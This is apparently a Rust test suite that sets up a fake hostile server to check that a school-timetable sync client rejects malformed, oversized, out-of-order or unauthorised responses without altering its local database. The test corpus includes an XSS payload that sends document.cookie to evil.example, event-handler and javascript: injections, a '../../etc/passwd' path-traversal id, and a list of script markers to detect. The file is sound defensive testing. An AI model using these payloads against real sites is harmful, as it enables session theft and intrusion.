//! Guarantee 6 against a hostile server: a fake ENT on loopback answers the real client
//! (HTTP connector, sync engine, replica) with a corpus of bad responses — malformed,
//! truncated, oversized, wrong types, change sequences that repeat or go backwards, records
//! the user may not hold, impossible dates and ids, lying push answers. Each must end in a
//! typed error with the replica unchanged (every table, row for row, and the file itself),
//! or, for script in lesson HTML, in a sanitised value.
//!
//! Prints `hostile: cases=N rejected=N sanitised=N replica_changed=0`.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use ardoise_protocol::{
    Data, EntityKind, Health, Record, SnapshotResponse, UserInfo, MAX_PAGE_BYTES,
    MAX_SNAPSHOT_LINE_BYTES, MIN_PROTOCOL_VERSION, PROTOCOL_VERSION, SNAPSHOT_STREAM_TYPE,
};
use ardoise_sync::{HttpConnector, Profile, ProfileInfo, Replica, SyncEngine, SyncError, Tokens};
use serde_json::{json, Value};

const ME: &str = "usr-moi";

/// What the fake server answers on the route under test.
#[derive(Clone)]
enum Answer {
    /// A status and a body, sent whole.
    Body(u16, Vec<u8>),
    /// Announces `length` bytes, sends `body`, closes.
    Short(usize, Vec<u8>),
    /// `n` bytes of JSON whitespace inside a valid page: larger than any page may be.
    Huge(usize),
    /// A streamed snapshot (JSON lines), sent whole.
    Lines(Vec<u8>),
    /// A streamed snapshot that announces `length` bytes, sends `body`, closes.
    LinesCut(usize, Vec<u8>),
}

/// Which call of a sync the case attacks.
#[derive(Clone, Copy, PartialEq, Debug)]
enum Route {
    Pull,
    Snapshot,
    Push,
}

/// How the case must end.
#[derive(Clone, Copy, PartialEq, Debug)]
enum Expect {
    /// The answer is not what the protocol says.
    BadResponse,
    /// Treated as the server being unreachable or failing (retry later).
    Offline,
    /// A typed refusal from the server (4xx with an error body).
    Server,
    /// Accepted once cleaned: no script stored.
    Sanitised,
}

struct Case {
    name: &'static str,
    route: Route,
    answer: Answer,
    expect: Expect,
}

fn record(kind: EntityKind, id: &str, seq: i64, data: Value) -> Value {
    json!({"kind": kind, "id": id, "version": 1, "changeSeq": seq, "deleted": false, "data": data})
}

fn session(title: &str, content: &str) -> Value {
    json!({"audienceId": "aud-2a", "subjectId": "sub-maths", "teacherId": ME,
           "date": "2026-11-30", "start": "10:00", "end": "11:00", "title": title,
           "content": content, "annotation": null, "state": "published", "publishAt": null,
           "occurrenceId": null, "attachments": []})
}

/// A page of one change after the replica's cursor (10), with `rec` as that change.
fn page_with(rec: Value) -> Vec<u8> {
    serde_json::to_vec(&json!({"changes": [rec], "nextCursor": 11, "hasMore": false})).unwrap()
}

fn page_with_session(data: Value) -> Vec<u8> {
    page_with(record(EntityKind::Session, "ses-x", 11, data))
}

fn with(mut v: Value, key: &str, value: Value) -> Value {
    v[key] = value;
    v
}

fn ok(body: Vec<u8>) -> Answer {
    Answer::Body(200, body)
}

/// A streamed snapshot of these lines, each written as JSON.
fn lines(values: &[Value]) -> Vec<u8> {
    let mut out = Vec::new();
    for v in values {
        serde_json::to_writer(&mut out, v).unwrap();
        out.push(b'\n');
    }
    out
}

fn corpus() -> Vec<Case> {
    use Expect::*;
    use Route::*;
    let good = record(
        EntityKind::Session,
        "ses-x",
        11,
        session("Titre", "<p>Cours</p>"),
    );
    let other_teacher = |state: &str, annotation: Value| {
        let mut s = session("Brouillon d'un autre", "<p>x</p>");
        s["teacherId"] = json!("usr-autre");
        s["state"] = json!(state);
        s["annotation"] = annotation;
        s
    };
    let mut nested = String::new();
    for _ in 0..10_000 {
        nested.push('[');
    }
    let case = |name, route, answer, expect| Case {
        name,
        route,
        answer,
        expect,
    };
    let push_answer = |v: Value| ok(serde_json::to_vec(&v).unwrap());
    let head = |seq: i64| json!({"seq": seq, "estimate": 2});
    let end = |n: u64| json!({"end": n});
    vec![
        // Not JSON, or not the JSON of a page.
        case("html instead of json", Pull, ok(b"<html>maintenance</html>".to_vec()), BadResponse),
        case("empty body", Pull, ok(Vec::new()), BadResponse),
        case("truncated json", Pull, ok(page_with(good.clone())[..40].to_vec()), BadResponse),
        case("json array", Pull, ok(b"[1,2,3]".to_vec()), BadResponse),
        case("json null", Pull, ok(b"null".to_vec()), BadResponse),
        case("invalid utf-8", Pull, ok(b"{\"changes\": [\"\xff\xfe\"], \"nextCursor\": 11, \"hasMore\": false}".to_vec()), BadResponse),
        case("10000 nested arrays", Pull, ok(nested.into_bytes()), BadResponse),
        case("cursor is a string", Pull, ok(br#"{"changes": [], "nextCursor": "11", "hasMore": false}"#.to_vec()), BadResponse),
        case("changes missing", Pull, ok(br#"{"nextCursor": 11, "hasMore": false}"#.to_vec()), BadResponse),
        case("cursor beyond i64", Pull, ok(br#"{"changes": [], "nextCursor": 1e400, "hasMore": false}"#.to_vec()), BadResponse),
        // Sizes.
        case("oversized page", Pull, Answer::Huge(MAX_PAGE_BYTES + 1), BadResponse),
        case("body shorter than announced", Pull, Answer::Short(4096, page_with(good.clone())), Offline),
        // Sequence numbers.
        case("cursor goes backwards", Pull, ok(br#"{"changes": [], "nextCursor": 3, "hasMore": false}"#.to_vec()), BadResponse),
        case("negative cursor", Pull, ok(br#"{"changes": [], "nextCursor": -5, "hasMore": false}"#.to_vec()), BadResponse),
        case("change already applied (seq <= cursor)", Pull, ok(page_with(with(good.clone(), "changeSeq", json!(7)))), BadResponse),
        case("change beyond the page's cursor", Pull, ok(page_with(with(good.clone(), "changeSeq", json!(99)))), BadResponse),
        case("repeated change_seq", Pull, ok(serde_json::to_vec(&json!({"changes": [with(good.clone(), "id", json!("ses-a")), with(good.clone(), "id", json!("ses-b"))], "nextCursor": 11, "hasMore": false})).unwrap()), BadResponse),
        case("change_seq backwards within a page", Pull, ok(serde_json::to_vec(&json!({"changes": [with(with(good.clone(), "id", json!("ses-a")), "changeSeq", json!(12)), with(good.clone(), "id", json!("ses-b"))], "nextCursor": 12, "hasMore": false})).unwrap()), BadResponse),
        case("negative change_seq", Pull, ok(page_with(with(good.clone(), "changeSeq", json!(-1)))), BadResponse),
        case("version zero", Pull, ok(page_with(with(good.clone(), "version", json!(0)))), BadResponse),
        // Records that are not records.
        case("unknown kind", Pull, ok(page_with(with(good.clone(), "kind", json!("virus")))), BadResponse),
        case("title is a number", Pull, ok(page_with_session(with(session("t", "c"), "title", json!(42)))), BadResponse),
        case("live record without data", Pull, ok(page_with(with(good.clone(), "data", Value::Null))), BadResponse),
        case("impossible date", Pull, ok(page_with_session(with(session("t", "c"), "date", json!("2026-13-45")))), BadResponse),
        case("date in year 99999", Pull, ok(page_with_session(with(session("t", "c"), "date", json!("99999-01-01")))), BadResponse),
        case("time 25:99", Pull, ok(page_with_session(with(session("t", "c"), "start", json!("25:99")))), BadResponse),
        case("path traversal in id", Pull, ok(page_with(with(good.clone(), "id", json!("../../etc/passwd")))), BadResponse),
        case("empty id", Pull, ok(page_with(with(good.clone(), "id", json!("")))), BadResponse),
        case("unknown state", Pull, ok(page_with_session(with(session("t", "c"), "state", json!("hacked")))), BadResponse),
        // Records this user may not hold.
        case("another teacher's draft", Pull, ok(page_with_session(other_teacher("draft", Value::Null))), BadResponse),
        case("another teacher's private annotation", Pull, ok(page_with_session(other_teacher("published", json!("note privée")))), BadResponse),
        case("someone else's conflict revision", Pull, ok(page_with(record(EntityKind::Conflict, "cfl-x", 11, json!({"recordKind": "session", "recordId": "ses-1", "authorId": "usr-autre", "fields": {}, "createdAt": "2026-11-20T10:00:00Z"})))), BadResponse),
        // Script: cleaned, never stored.
        case("script in lesson html", Pull, ok(page_with_session(session("Titre", "<p>Cours</p><script>fetch('https://evil.example/'+document.cookie)</script>"))), Sanitised),
        case("event handler and javascript: link", Pull, ok(page_with_session(session("Titre", "<p onclick=\"alert(1)\"><a href=\"javascript:alert(1)\">lien</a></p><img src=x onerror=alert(1)>"))), Sanitised),
        // Errors that are not what they claim.
        case("error status with html", Pull, Answer::Body(500, b"<h1>Bad gateway</h1>".to_vec()), Offline),
        case("403 without an error body", Pull, Answer::Body(403, b"nope".to_vec()), BadResponse),
        case("403 with a typed error", Pull, Answer::Body(403, br#"{"code": "acl.forbidden", "message": "Interdit."}"#.to_vec()), Server),
        case("200 with an error body", Pull, ok(br#"{"code": "oops", "message": "?"}"#.to_vec()), BadResponse),
        // Snapshot for a new replica.
        case("snapshot: negative seq", Snapshot, ok(br#"{"seq": -1, "records": []}"#.to_vec()), BadResponse),
        case("snapshot: truncated", Snapshot, ok(br#"{"seq": 5, "records": [{"kind": "room""#.to_vec()), BadResponse),
        case("snapshot: a bad record among good ones", Snapshot, ok(serde_json::to_vec(&json!({"seq": 11, "records": [good.clone(), with(good.clone(), "id", json!("a/b"))]})).unwrap()), BadResponse),
        // Streamed snapshot (JSON lines).
        case("stream: empty", Snapshot, Answer::Lines(Vec::new()), BadResponse),
        case("stream: no head line", Snapshot, Answer::Lines(lines(&[good.clone(), end(1)])), BadResponse),
        case("stream: negative seq", Snapshot, Answer::Lines(lines(&[head(-1), end(0)])), BadResponse),
        case("stream: no end line", Snapshot, Answer::Lines(lines(&[head(10), good.clone()])), BadResponse),
        case("stream: end counts fewer records", Snapshot, Answer::Lines(lines(&[head(10), good.clone(), with(good.clone(), "id", json!("ses-y")), end(1)])), BadResponse),
        case("stream: end counts more records", Snapshot, Answer::Lines(lines(&[head(10), good.clone(), end(2)])), BadResponse),
        case("stream: data after the end", Snapshot, Answer::Lines(lines(&[head(10), good.clone(), end(1), good.clone()])), BadResponse),
        case("stream: a line that is not json", Snapshot, Answer::Lines([lines(&[head(10), good.clone()]), b"<html>\n".to_vec(), lines(&[end(2)])].concat()), BadResponse),
        case("stream: a bad record among good ones", Snapshot, Answer::Lines(lines(&[head(10), good.clone(), with(good.clone(), "id", json!("a/b")), end(2)])), BadResponse),
        case("stream: another teacher's draft", Snapshot, Answer::Lines(lines(&[head(10), record(EntityKind::Session, "ses-y", 3, other_teacher("draft", Value::Null)), end(1)])), BadResponse),
        case("stream: a line longer than allowed", Snapshot, Answer::Lines([lines(&[head(10)]), vec![b' '; MAX_SNAPSHOT_LINE_BYTES + 10], b"\n".to_vec()].concat()), BadResponse),
        case("stream: connection cut mid-stream", Snapshot, Answer::LinesCut(1 << 20, lines(&[head(10), good.clone()])), Offline),
        case("stream: script in lesson html", Snapshot, Answer::Lines(lines(&[head(10), record(EntityKind::Session, "ses-x", 3, session("Titre", "<p>Cours</p><script>alert(1)</script>")), end(1)])), Sanitised),
        // Push answers that do not match the ops sent.
        case("push: no results", Push, push_answer(json!({"results": []})), BadResponse),
        case("push: results for other ops", Push, push_answer(json!({"results": [{"opId": "01900000-0000-7000-8000-000000000000", "outcome": "applied", "version": 2}]})), BadResponse),
        case("push: unknown outcome", Push, push_answer(json!({"results": [{"opId": "01900000-0000-7000-8000-000000000000", "outcome": "maybe"}]})), BadResponse),
        case("push: not json", Push, ok(b"OK".to_vec()), BadResponse),
    ]
}

/// The fake ENT: health is fine, the route under test gets the case's answer.
struct FakeEnt {
    base: String,
    answer: Arc<Mutex<(Route, Answer)>>,
}

impl FakeEnt {
    fn start() -> FakeEnt {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let answer = Arc::new(Mutex::new((Route::Pull, Answer::Body(200, Vec::new()))));
        let shared = answer.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let current = shared.lock().unwrap().clone();
                // A client that gave up mid-answer is fine.
                let _ = serve(stream, &current);
            }
        });
        FakeEnt { base, answer }
    }
}

fn serve(stream: TcpStream, (route, answer): &(Route, Answer)) -> std::io::Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut first = String::new();
    reader.read_line(&mut first)?;
    let mut length = 0;
    loop {
        let mut line = String::new();
        reader.read_line(&mut line)?;
        if line.trim().is_empty() {
            break;
        }
        if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = v.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body)?;
    let path = first.split_whitespace().nth(1).unwrap_or("");
    let mine = match route {
        Route::Pull => path.starts_with("/v1/changes"),
        Route::Snapshot => path.starts_with("/v1/snapshot"),
        Route::Push => path.starts_with("/v1/push"),
    };
    let mut out = stream;
    let typed = |status: u16, kind: &str, len: usize| {
        format!("HTTP/1.1 {status} X\r\ncontent-type: {kind}\r\ncontent-length: {len}\r\nconnection: close\r\n\r\n")
    };
    let head = |status: u16, len: usize| typed(status, "application/json", len);
    if path.starts_with("/v1/health") {
        let health = serde_json::to_vec(&Health {
            status: "ok".into(),
            protocol: PROTOCOL_VERSION,
            min_protocol: MIN_PROTOCOL_VERSION,
        })?;
        out.write_all(head(200, health.len()).as_bytes())?;
        return out.write_all(&health);
    }
    if !mine {
        // The other calls of a sync see an empty, well-formed ENT.
        let body = if path.starts_with("/v1/changes") {
            br#"{"changes": [], "nextCursor": 10, "hasMore": false}"#.to_vec()
        } else {
            br#"{"code": "test.unexpected", "message": "appel inattendu"}"#.to_vec()
        };
        let status = if path.starts_with("/v1/changes") {
            200
        } else {
            404
        };
        out.write_all(head(status, body.len()).as_bytes())?;
        return out.write_all(&body);
    }
    match answer {
        Answer::Body(status, body) => {
            out.write_all(head(*status, body.len()).as_bytes())?;
            out.write_all(body)
        }
        Answer::Short(length, body) => {
            out.write_all(head(200, *length).as_bytes())?;
            out.write_all(body)
        }
        Answer::Lines(body) => {
            out.write_all(typed(200, SNAPSHOT_STREAM_TYPE, body.len()).as_bytes())?;
            out.write_all(body)
        }
        Answer::LinesCut(length, body) => {
            out.write_all(typed(200, SNAPSHOT_STREAM_TYPE, *length).as_bytes())?;
            out.write_all(body)
        }
        Answer::Huge(n) => {
            let open = br#"{"changes": [], "nextCursor": 11, "hasMore": false"#;
            out.write_all(head(200, open.len() + n + 1).as_bytes())?;
            out.write_all(open)?;
            let spaces = vec![b' '; 1 << 20];
            let mut left = *n;
            while left > 0 {
                let k = left.min(spaces.len());
                out.write_all(&spaces[..k])?;
                left -= k;
            }
            out.write_all(b"}")
        }
    }
}

/// Every table of a replica, row by row (the outbox's retry counter aside: a failed push
/// counts as an attempt, which is not a change of data).
fn dump(path: &Path) -> String {
    let replica = Replica::open(path).unwrap();
    let conn = replica.sql();
    let mut out = String::new();
    let tables: Vec<String> = conn
        .prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    for t in tables {
        let cols: Vec<String> = conn
            .prepare(&format!("SELECT name FROM pragma_table_info('{t}')"))
            .unwrap()
            .query_map([], |r| r.get(0))
            .unwrap()
            .map(Result::unwrap)
            .filter(|c: &String| !(t == "outbox" && c == "attempts"))
            .collect();
        let sql = format!("SELECT {} FROM \"{t}\" ORDER BY 1", cols.join(", "));
        let mut stmt = conn.prepare(&sql).unwrap();
        let mut rows = stmt.query([]).unwrap();
        out.push_str(&format!("## {t}\n"));
        while let Some(row) = rows.next().unwrap() {
            for i in 0..cols.len() {
                out.push_str(&format!("{:?}|", row.get_ref(i).unwrap()));
            }
            out.push('\n');
        }
    }
    out
}

/// A profile whose replica holds a small school at cursor 10 (`empty`: a new replica at
/// cursor 0), with one pending edit when `pending`.
fn profile(dir: &Path, server: &str, empty: bool, pending: bool) -> Profile {
    let profile = Profile::new(dir);
    profile
        .save_info(&ProfileInfo {
            server: server.into(),
            user: UserInfo {
                id: ME.into(),
                login: "moi".into(),
                display_name: "Mme Moi".into(),
                roles: vec![ardoise_protocol::Role::Teacher],
            },
            ent: Default::default(),
            client_id: None,
            structure: None,
        })
        .unwrap();
    let mut replica = Replica::open(&profile.replica_path()).unwrap();
    replica
        .save_tokens(&Tokens {
            access_token: "a".into(),
            refresh_token: "r".into(),
            expires_at: None,
        })
        .unwrap();
    replica
        .set_state(ardoise_sync::replica::keys::USER_ID, ME)
        .unwrap();
    if !empty {
        let rec = |kind, id: &str, seq, data: Value| -> Record {
            serde_json::from_value(record(kind, id, seq, data)).unwrap()
        };
        replica
            .apply_snapshot(SnapshotResponse {
                seq: 10,
                records: vec![
                    rec(EntityKind::User, ME, 1, json!({"login": "moi", "displayName": "Mme Moi", "roles": ["teacher"], "audienceIds": ["aud-2a"], "subjectIds": ["sub-maths"]})),
                    rec(EntityKind::Session, "ses-1", 2, session("Déjà là", "<p>avant</p>")),
                ],
            })
            .unwrap();
        if pending {
            let mut edit = Data::new();
            edit.insert("title".into(), json!("modifié hors ligne"));
            replica
                .local_update(EntityKind::Session, "ses-1", &edit)
                .unwrap()
                .unwrap();
        }
    }
    profile
}

fn expected(e: &SyncError) -> Expect {
    match e {
        SyncError::BadResponse(_) | SyncError::Protocol(_) => Expect::BadResponse,
        SyncError::Offline(_) | SyncError::Unavailable(_) => Expect::Offline,
        SyncError::Server(_) => Expect::Server,
        other => panic!("unexpected error kind: {other:?}"),
    }
}

#[test]
fn every_hostile_answer_is_a_typed_error_and_changes_nothing() {
    let ent = FakeEnt::start();
    let sandbox = tempfile::tempdir().unwrap();
    let corpus = corpus();
    let (mut rejected, mut sanitised, mut changed) = (0, 0, Vec::new());
    for (i, case) in corpus.iter().enumerate() {
        *ent.answer.lock().unwrap() = (case.route, case.answer.clone());
        let dir: PathBuf = sandbox.path().join(format!("case-{i}"));
        let profile = profile(
            &dir,
            &ent.base,
            case.route == Route::Snapshot,
            case.route == Route::Push,
        );
        let path = profile.replica_path();
        let (rows_before, file_before) = (dump(&path), std::fs::read(&path).unwrap());
        let replica = Replica::open(&path).unwrap();
        let connector = HttpConnector::new(&ent.base).unwrap();
        let mut engine = SyncEngine::new(profile, replica, Box::new(connector));
        let result = engine.sync_once();
        drop(engine);
        match (case.expect, result) {
            (Expect::Sanitised, Ok(_)) => {
                sanitised += 1;
                let replica = Replica::open(&path).unwrap();
                let content: String = replica
                    .sql()
                    .query_row("SELECT content FROM sessions WHERE id = 'ses-x'", [], |r| {
                        r.get(0)
                    })
                    .unwrap();
                for bad in ["<script", "onclick", "onerror", "javascript:"] {
                    assert!(!content.contains(bad), "{}: stored {content:?}", case.name);
                }
            }
            (expect, Err(e)) if expect != Expect::Sanitised => {
                assert_eq!(expected(&e), expect, "{}: got {e:?}", case.name);
                assert!(!e.to_string().is_empty());
                rejected += 1;
                if dump(&path) != rows_before {
                    changed.push(format!("{} (rows)", case.name));
                } else if case.route != Route::Push && std::fs::read(&path).unwrap() != file_before
                {
                    changed.push(format!("{} (file bytes)", case.name));
                }
            }
            (expect, result) => panic!("{}: expected {expect:?}, got {result:?}", case.name),
        }
    }
    assert!(changed.is_empty(), "replica changed by: {changed:?}");
    assert!(corpus.len() >= 30);
    writeln!(
        std::io::stderr(),
        "hostile: cases={} rejected={rejected} sanitised={sanitised} replica_changed={}",
        corpus.len(),
        changed.len()
    )
    .unwrap();
}
